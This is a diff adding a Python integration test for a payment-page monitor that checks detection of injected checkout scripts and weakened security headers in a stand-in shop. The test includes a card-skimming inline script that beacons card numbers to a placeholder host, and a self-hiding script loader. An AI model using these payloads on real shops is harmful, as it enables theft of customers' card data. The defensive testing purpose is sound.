@@ -1,0 +1,135 @@
+#!/usr/bin/env python3
+"""A checkout as a consumer's browser receives it, per store view, by a real Chromium and by a plain fetch.
+
+usage: payment_page.py MAGEWARDEN
+
+Starts the stand-in shop and watches the checkouts of three views both ways. First nothing may be told, though every
+page carries values of its own. Then an inline script comes to one view's block, the gateway's script grows a loader that
+hides itself, and the policy of one website stops to be enforced: each is told for its views and for no other.
+"""
+import json
+import pathlib
+import re
+import signal
+import subprocess
+import sys
+import tempfile
+
+sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent.parent / "shop"))
+
+from shared import end, free_port, need, observations, page, wait_for
+from shop import Shop
+
+VIEWS = {"de": "de.shop.test", "fr": "fr.shop.test", "us": "us.shop.test"}
+WAYS = ("browser", "fetch")
+INLINE = "<script>document.querySelector(''[name=cc_number]'').addEventListener(''change'', e => { navigator.sendBeacon(''//stats.example.test/p'', btoa(e.target.value)) })</script>"
+# Comes by the gateway's script, asks another host, and takes its own element away.
+LOADER = "(() => { const s = document.createElement('script'); s.textContent = 'new Image().src = location.protocol + \"//hidden.example.test/\"; window.late = 1'; document.body.append(s); s.remove(); })();\n"
+
+
+def main():
+    magewarden = pathlib.Path(sys.argv[1]).resolve()
+    started, folder = [], pathlib.Path(tempfile.mkdtemp(prefix="magewarden-page-"))
+    try:
+        shop = Shop(folder, started)
+        places = {host: "127.0.0.1" for host in [*VIEWS.values(), "js.gateway.test", "stats.example.test", "hidden.example.test"]}
+        config = f"stores = \"{shop.root}/stores.toml\"\n"
+        for view, host in VIEWS.items():
+            for way in WAYS:
+                config += f"""
+[[source]]
+kind = "payment_page"
+view = "{view}"
+url = "http://{host}:{shop.port}/checkout"
+by = "{way}"
+every_seconds = 10
+before = ["/catalog/product/7", "POST /checkout/cart/add product=7&qty=1"]
+[source.addresses]
+""" + "".join(f'"{name}" = "{address}"\n' for name, address in places.items())
+        (folder / "settings.toml").write_text(config)
+        console, data = free_port(), folder / "data"
+        err = open(folder / "err", "w+")
+        up = subprocess.Popen([str(magewarden), "up", "--config", str(folder / "settings.toml"), "--data", str(data), "--port", str(console)], stderr=err)
+        started.append(up)
+
+        def told(view, way, change=None, part=None):
+            all_of = observations(magewarden, data, f"payment_page:{view}:{way}")
+            return [one for one in all_of if change in (None, one["change"]) and part in (None, one.get("page.part"))]
+
+        wait_for("the console", 60, lambda: "<main" in page(console))
+        pairs = [(view, way) for view in VIEWS for way in WAYS]
+        looks = lambda: {pair: len(told(*pair, "checked")) for pair in pairs}
+
+        def wait_for_looks(more):
+            before = looks()
+            wait_for("the pages to be looked at again", 240, lambda: all(looks()[pair] >= before[pair] + more for pair in pairs))
+
+        wait_for("each page to be known", 180, lambda: all(told(*pair, "baseline") for pair in pairs))
+        for view, way in pairs:
+            seen = {(one["page.part"], one["page.name"]) for one in told(view, way, "seen")}
+            port = shop.port
+            gateway = ("script", f"http://js.gateway.test:{port}/v1.js")
+            need((gateway in seen) == (view != "us"), f"{view} by {way}: the gateway's script is there where its method is", seen)
+            need({("header", "content-security-policy"), ("header", "x-frame-options"), ("field", "input cc_number")} <= seen, f"{view} by {way}: headers and fields", seen)
+            need(("script", f"http://{VIEWS[view]}:{port}/static/checkout.js") in seen, f"{view} by {way}: the shop's own script", seen)
+        # Form keys differ at each look, and nothing is told.
+        wait_for_looks(1)
+        for pair in pairs:
+            changes = [one for change in ("created", "modified", "removed") for one in told(*pair, change)]
+            need(not changes, f"{pair}: told without a change", changes)
+        # One view's block gets an inline script.
+        shop.sql(f"""use shop; insert into mg_cms_block (block_id, identifier, title, content, is_active) values (2, 'checkout_note', 'Note', '<p>Bonjour</p>{INLINE}', 1);
+                     insert into mg_cms_block_store values (2, 2);""")
+        shop.flush()
+        for way in WAYS:
+            wait_for(f"the inline script of fr by {way}", 180, lambda: told("fr", way, "created", "inline"))
+            one = told("fr", way, "created", "inline")[0]
+            need("sendBeacon" in one["page.text"] and one["page.hosts"] == ["stats.example.test"] and one["shop.store"] == "fr", "what came is told", one)
+        # The gateway's script grows; only a browser sees what it loads and hides.
+        script = folder / "gateway" / "v1.js"
+        script.write_text(script.read_text() + LOADER)
+        for view in ("de", "fr"):
+            for way in WAYS:
+                wait_for(f"the gateway's script at {view} by {way}", 180, lambda: told(view, way, "modified", "script"))
+                one = told(view, way, "modified", "script")[0]
+                need("{+(() =>" in one["page.difference"] and "s.remove()" in one["page.difference"], "the difference shows what came", one)
+            wait_for(f"what hides itself, at {view}", 180, lambda: any("window.late" in one["page.text"] for one in told(view, "browser", "created", "inline")))
+            wait_for(f"the host it asks, at {view}", 60, lambda: any(one["page.name"] == "hidden.example.test" for one in told(view, "browser", "created", "host")))
+        # One website's policy is reported and no longer enforced.
+        shop.sql("insert into shop.mg_core_config_data (scope, scope_id, path, value) values ('websites', 2, 'csp/mode/storefront_checkout_index_index/report_only', '1')")
+        shop.flush()
+        for way in WAYS:
+            wait_for(f"the policy of us by {way}", 180, lambda: [one for one in told("us", way, "removed", "header") if one["page.name"] == "content-security-policy"])
+            need(any(one["page.name"].endswith("report-only") for one in told("us", way, "created", "header")), "the header that came")
+        for view, way in pairs:
+            inline = [one for one in told(view, way, "created", "inline") if "sendBeacon" in one["page.text"]]
+            need(bool(inline) == (view == "fr"), f"{view} by {way}: the block's script is told where it is", inline)
+            need(view == "us" or not told(view, way, "removed"), f"{view} by {way}: nothing else is gone", told(view, way, "removed"))
+            need(view != "us" or not told(view, way, "modified"), "us has no gateway's script", told(view, way, "modified"))
+        shown = lambda: " ".join(page(console, link) for link in re.findall(r'href="(/incidents/[0-9a-f]+)"', page(console)))
+        wanted = ("Script on the payment page that was not there before", "Security header of the payment page changed", "view fr", "view us", "cards typed while the page was changed")
+        for word in wanted:
+            wait_for(f"`{word}` on the incidents' pages", 60, lambda: word in shown())
+        up.send_signal(signal.SIGTERM)
+        up.wait(60)
+        need(subprocess.run([str(magewarden), "verify", str(data / "ledger")], capture_output=True).returncode == 0, "the ledger verifies")
+        # Changed while nobody looked, it is told at the next start; a shop that doesn't answer is trouble, not a change.
+        (folder / "shop" / "pub" / "static" / "checkout.js").write_text("steal();\n")
+        up = subprocess.Popen([str(magewarden), "up", "--config", str(folder / "settings.toml"), "--data", str(data), "--port", str(console)], stderr=err)
+        started.append(up)
+        for pair in pairs:
+            wait_for(f"{pair}: a change while it was off", 180, lambda: [one for one in told(*pair, "modified", "script") if "steal()" in one["page.difference"]])
+        shop.nginx.terminate()
+        shop.nginx.wait(20)
+        wait_for("the trouble on the page", 200, lambda: page(console, "/sources").count("failing") >= len(pairs))
+        need(not [one for pair in pairs for one in told(*pair, "removed", "script")], "a shop that is down takes nothing away")
+        print(f"1 passed, 0 failed ({sum(looks().values())} looks at {len(pairs)} pages)")
+    except SystemExit:
+        sys.stderr.write((folder / "err").read_text()[-4000:] if (folder / "err").exists() else "")
+        raise
+    finally:
+        end(started, folder)
+
+
+if __name__ == "__main__":
+    main()
